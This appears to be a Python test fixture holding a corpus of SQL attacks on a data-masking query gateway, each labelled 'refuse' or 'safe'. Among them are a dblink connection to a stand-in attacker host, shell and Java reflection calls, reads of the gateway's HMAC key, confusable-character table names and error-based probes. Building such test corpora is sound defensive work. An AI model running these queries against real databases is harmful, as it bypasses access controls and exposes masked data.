"""The project's leak corpus: attacks on the gateway by class, as consumer `bob` of the example mesh.

Each attack is (class, SQL, expectation). "refuse": the gateway must refuse it (a GatewayError,
nothing run) in every dialect the rewrite reads. "safe": it may run, or be refused, but nothing
hidden may come back — no raw value of a masked or denied column, no row the row filter hides,
and no engine message quoting a value. The classes follow issue 9: plan/explain functions,
statistics, nested-SQL functions, side effects, code execution, settings, error-based probes on
hidden rows, schema drift (tests/enforce/leak_corpus/test_leak_corpus.py), parameters, comments,
Unicode confusables and every clause kind.
"""

from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    klass: str
    sql: str
    expect: str  # "refuse" or "safe"


RAW = 'pe_raw."sales.orders"'

ATTACKS: tuple[Attack, ...] = (
    # plan / explain: a planner over SQL text reads the raw tables; EMPTY_RESULT is an oracle
    Attack("plan", f"SELECT json_serialize_plan('SELECT max(margin) FROM {RAW}', optimize := true)", "refuse"),
    Attack("plan", "SELECT json_serialize_plan('SELECT current_setting(''threads'')')", "refuse"),
    Attack("plan", "SELECT json_serialize_sql('SELECT 1')", "refuse"),
    Attack("plan", "SELECT order_id FROM sales.orders WHERE json_serialize_plan("
                   f"'SELECT 1 FROM {RAW} WHERE margin > 100') LIKE '%EMPTY_RESULT%'", "refuse"),
    Attack("plan", "EXPLAIN SELECT * FROM sales.orders", "refuse"),
    Attack("plan", "EXPLAIN ANALYZE SELECT margin FROM sales.orders", "refuse"),
    Attack("plan", "SELECT SYSTEM$EXPLAIN_PLAN_JSON('SELECT margin FROM sales.orders')", "refuse"),
    Attack("plan", "SELECT explain_json('SELECT 1')", "refuse"),
    # statistics: whole-table min/max/distinct, ignoring the row filter
    Attack("statistics", "SELECT stats(amount) FROM sales.orders", "refuse"),
    Attack("statistics", "SELECT stats(customer_email) FROM sales.orders", "refuse"),
    Attack("statistics", "SELECT ts_stat('SELECT to_tsvector(full_name) FROM sales.customers')", "refuse"),
    Attack("statistics", "SELECT * FROM pg_stats", "refuse"),
    Attack("statistics", "SELECT * FROM duckdb_columns()", "refuse"),
    Attack("statistics", "SELECT approx_top_k(customer_email, 3) FROM sales.orders", "refuse"),
    # nested SQL: functions that run SQL text bypass masks, filters and denies
    Attack("nested-sql", "SELECT query_to_xml('SELECT margin FROM sales.orders', true, false, '')", "refuse"),
    Attack("nested-sql", "SELECT table_to_xml('sales.orders', true, false, '')", "refuse"),
    Attack("nested-sql", "SELECT database_to_xml(true, false, '')", "refuse"),
    Attack("nested-sql", "SELECT cursor_to_xml('c', 10, true, false, '')", "refuse"),
    Attack("nested-sql", "SELECT ts_rewrite('a'::tsquery, 'SELECT margin::text, ''x'' FROM sales.orders')", "refuse"),
    Attack("nested-sql", f"SELECT * FROM query('SELECT * FROM {RAW}')", "refuse"),
    Attack("nested-sql", f"SELECT query_table('{RAW}')", "refuse"),
    Attack("nested-sql", "SELECT order_id FROM sales.orders WHERE xpath_exists('/x', "
                         "query_to_xml('SELECT margin FROM sales.orders', true, false, ''))", "refuse"),
    # side effects: writes, locks, connections, sequences, sleeping
    Attack("side-effect", "SELECT lo_from_bytea(0, 'x')", "refuse"),
    Attack("side-effect", "SELECT lo_unlink(16400)", "refuse"),
    Attack("side-effect", "SELECT setval('orders_seq', 1)", "refuse"),
    Attack("side-effect", "SELECT nextval('orders_seq')", "refuse"),
    Attack("side-effect", "SELECT dblink_connect('host=attacker.example')", "refuse"),
    Attack("side-effect", "SELECT dblink_send_query('c', 'SELECT margin FROM sales.orders')", "refuse"),
    Attack("side-effect", "SELECT order_id FROM sales.orders FOR UPDATE", "refuse"),
    Attack("side-effect", "SELECT order_id FROM sales.orders FOR SHARE", "refuse"),
    Attack("side-effect", "SELECT pg_sleep(10)", "refuse"),
    Attack("side-effect", "SELECT set_config('search_path', 'pe_raw', false)", "refuse"),
    Attack("side-effect", "SELECT setseed(0.5)", "refuse"),
    Attack("side-effect", "SELECT * INTO stolen FROM sales.orders", "refuse"),
    # code execution
    Attack("code", "SELECT TRANSFORM(order_id) USING 'sh -c id' FROM sales.orders", "refuse"),
    Attack("code", "SELECT try_reflect('java.lang.Runtime', 'getRuntime')", "refuse"),
    Attack("code", "SELECT reflect('java.lang.System', 'getenv', 'HOME')", "refuse"),
    Attack("code", "SELECT java_method('java.lang.System', 'getenv', 'HOME')", "refuse"),
    Attack("code", "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)", "refuse"),
    Attack("code", "SELECT system('id')", "refuse"),
    Attack("code", "SELECT error('boom') FROM sales.orders", "refuse"),
    # settings and environment
    Attack("settings", "SELECT current_setting('threads')", "refuse"),
    Attack("settings", "SELECT order_id FROM sales.orders WHERE current_setting('TimeZone') = 'UTC'", "refuse"),
    Attack("settings", "SELECT getenv('HOME')", "refuse"),
    Attack("settings", "SELECT getvariable('x')", "refuse"),
    Attack("settings", "SELECT version()", "refuse"),
    Attack("settings", "SELECT current_user", "refuse"),
    Attack("settings", "SELECT current_database()", "refuse"),
    Attack("settings", "SELECT * FROM duckdb_settings()", "refuse"),
    # error-based probes on hidden rows or raw values
    Attack("error-probe", "SELECT order_id FROM sales.orders WHERE CAST(customer_id AS regclass) IS NOT NULL", "refuse"),
    Attack("error-probe", "SELECT order_id FROM sales.orders WHERE customer_id::regclass IS NOT NULL", "refuse"),
    Attack("error-probe", "SELECT order_id FROM sales.orders WHERE CAST(CASE WHEN region <> 'uk' "
                          "THEN customer_id ELSE '1' END AS INTEGER) = 1", "safe"),
    Attack("error-probe", "SELECT count(*) FROM sales.orders WHERE CAST(CASE WHEN region <> 'uk' "
                          "THEN region ELSE '1' END AS INTEGER) = 1", "safe"),
    Attack("error-probe", "SELECT CAST(customer_email AS INTEGER) FROM sales.orders", "safe"),
    Attack("error-probe", "SELECT order_id FROM sales.orders WHERE CAST(margin AS INTEGER) = 1", "refuse"),
    Attack("error-probe", "SELECT order_id FROM sales.orders WHERE 1 / (CASE WHEN region = 'eu' THEN 0 ELSE 1 END) = 1",
           "safe"),
    # parameters: the gateway binds its own (the HMAC key or pads)
    Attack("parameters", "SELECT $pe_hmac_ipad AS k FROM sales.orders", "refuse"),
    Attack("parameters", "SELECT ? AS k FROM sales.orders", "refuse"),
    Attack("parameters", "SELECT :pe_hash_key AS k FROM sales.orders", "refuse"),
    Attack("parameters", "SELECT $1 AS k FROM sales.orders", "refuse"),
    Attack("parameters", "SELECT '%(pe_hash_key)s' AS k FROM sales.orders", "safe"),
    # comments: never passed on; cannot hide a clause from the checks
    Attack("comments", "SELECT order_id FROM sales.orders -- WHERE region = 'uk'\n", "safe"),
    Attack("comments", "SELECT order_id /* */ FROM sales.orders /*+ no_filter */", "safe"),
    Attack("comments", f"SELECT order_id FROM sales.orders /* */ UNION SELECT order_id FROM {RAW}", "refuse"),
    Attack("comments", "SELECT customer_email FROM sales.orders /* ' */ WHERE customer_email <> '*/'", "safe"),
    Attack("comments", "SELECT 1 /* ; DROP TABLE x; */ FROM sales.orders", "safe"),
    # Unicode confusables and invisible characters in names
    Attack("confusables", "SELECT * FROM \uff53ales.orders", "refuse"),  # fullwidth s
    Attack("confusables", "SELECT * FROM sales.order\u0455", "refuse"),  # Cyrillic s
    Attack("confusables", "SELECT * FROM \"sales\".\"orders\u200b\"", "refuse"),  # zero-width space
    Attack("confusables", "SELECT m\u0430rgin FROM sales.orders", "safe"),  # Cyrillic a: no such column
    # Kelvin sign: Python folds it to k, DuckDB does not; the CTE is renamed, so `keys` reads the CTE
    Attack("confusables", "WITH \u212aeys AS (SELECT 1 AS x) SELECT * FROM keys", "safe"),
    Attack("confusables", "SELECT \"MARGIN\" FROM sales.orders", "safe"),  # a string in Spark/BigQuery
    # schema capture by name: the gateway's own names are reserved
    Attack("capture", "SELECT count(*) FROM (SELECT 'uk' AS region) AS pe_src, sales.orders", "safe"),
    Attack("capture", "SELECT count(*) FROM (SELECT 'uk' AS region) AS \"__pe_src_0\", sales.orders", "refuse"),
    Attack("capture", "WITH __pe_cte_x AS (SELECT 1 AS x) SELECT * FROM __pe_cte_x", "refuse"),
    # every clause kind over masked and filtered data
    Attack("clauses", "SELECT customer_email FROM sales.orders WHERE customer_email LIKE '%@%' ORDER BY 1", "safe"),
    Attack("clauses", "SELECT order_id FROM sales.orders WHERE region <> 'uk'", "safe"),
    Attack("clauses", "SELECT substr(customer_name, 1, 3) AS p, count(*) FROM sales.orders GROUP BY 1 HAVING count(*) > 0",
           "safe"),
    Attack("clauses", "SELECT o.order_id, c.email FROM sales.orders o JOIN sales.customers c "
                      "ON o.customer_id = c.customer_id WHERE c.full_name LIKE 'A%'", "safe"),
    Attack("clauses", "SELECT o.order_id FROM sales.orders o LEFT JOIN sales.customers c ON o.customer_email = c.email",
           "safe"),
    Attack("clauses", "SELECT order_id FROM sales.orders WHERE customer_id IN "
                      "(SELECT customer_id FROM sales.customers WHERE region = 'eu')", "safe"),
    Attack("clauses", "SELECT order_id FROM sales.orders o WHERE EXISTS "
                      "(SELECT 1 FROM sales.customers c WHERE c.customer_id = o.customer_id AND c.region <> 'uk')", "safe"),
    Attack("clauses", "SELECT (SELECT max(card_number) FROM sales.orders) AS m", "safe"),
    Attack("clauses", "SELECT * FROM sales.orders QUALIFY row_number() OVER (PARTITION BY region ORDER BY amount DESC) = 1",
           "safe"),
    Attack("clauses", "SELECT order_id, lag(customer_email) OVER (ORDER BY order_id) FROM sales.orders", "safe"),
    Attack("clauses", "SELECT max(amount) FILTER (WHERE region = 'eu') AS m FROM sales.orders", "safe"),
    Attack("clauses", "SELECT region, count(*) FROM sales.orders GROUP BY GROUPING SETS ((region), ())", "safe"),
    Attack("clauses", "SELECT region, count(*) FROM sales.orders GROUP BY ROLLUP (region)", "safe"),
    Attack("clauses", "SELECT lead_id FROM marketing.leads UNION ALL SELECT customer_id FROM sales.customers", "safe"),
    Attack("clauses", "SELECT customer_id FROM sales.orders INTERSECT SELECT customer_id FROM sales.customers", "safe"),
    Attack("clauses", "SELECT customer_id FROM sales.orders EXCEPT SELECT customer_id FROM sales.customers", "safe"),
    Attack("clauses", "SELECT DISTINCT card_number FROM sales.orders ORDER BY 1 LIMIT 5 OFFSET 2", "safe"),
    Attack("clauses", "WITH o AS (SELECT * FROM sales.orders) SELECT customer_email FROM o WHERE amount > 1", "safe"),
    Attack("clauses", "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT n FROM r",
           "safe"),
    Attack("clauses", "SELECT CASE WHEN customer_email LIKE 'a%' THEN 1 ELSE 0 END AS a FROM sales.orders", "safe"),
    Attack("clauses", "SELECT order_id FROM sales.orders WHERE shipped_on BETWEEN DATE '2020-01-01' AND DATE '2030-01-01'",
           "safe"),
    Attack("clauses", "SELECT * FROM hr.payroll", "refuse"),
    Attack("clauses", "SELECT * FROM sales.orders, LATERAL (SELECT 1) AS l", "refuse"),
    Attack("clauses", "SELECT * FROM (VALUES (1)) AS v(x)", "refuse"),
    Attack("clauses", "SELECT * FROM UNNEST([1, 2]) AS u(x)", "refuse"),
    Attack("clauses", "SELECT * FROM sales.orders TABLESAMPLE (10 PERCENT)", "refuse"),
    Attack("clauses", "SELECT * FROM sales.orders PIVOT (count(*) FOR region IN ('uk', 'eu'))", "refuse"),
    Attack("clauses", "SELECT 1; SELECT margin FROM sales.orders", "refuse"),
    Attack("clauses", "INSERT INTO sales.orders SELECT * FROM sales.orders", "refuse"),
    Attack("clauses", "COPY (SELECT * FROM sales.orders) TO '/tmp/x.csv'", "refuse"),
    Attack("clauses", "ATTACH '/tmp/x.db' AS x", "refuse"),
)
